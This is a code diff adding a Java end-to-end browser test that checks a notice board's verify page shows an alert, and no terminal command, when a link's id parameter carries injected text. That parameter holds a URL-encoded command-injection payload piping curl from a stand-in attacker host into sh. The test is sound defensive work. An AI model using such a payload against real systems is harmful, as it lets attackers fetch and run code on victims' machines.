@@ -276,6 +276,16 @@ class NoticesE2E {
     }
 
     @Test
+    void a_link_does_not_choose_what_is_pasted_into_a_terminal() {
+        try (var browser = Browser.inEnglish()) {
+            var page = browser.open("/board/verify.html?id=x%3B%20curl%20https%3A%2F%2Fevil.example%20%7C%20sh");
+
+            assertThat(page.getByRole(AriaRole.ALERT)).isVisible();
+            assertThat(page.getByText("sh verify.sh")).hasCount(0);
+        }
+    }
+
+    @Test
     void a_refused_notice_stays_in_the_form_with_the_reason_at_its_field() {
         try (var clerk = Browser.inEnglish().as(clerk())) {
             var page = draft(clerk, "", "A text without a title.");
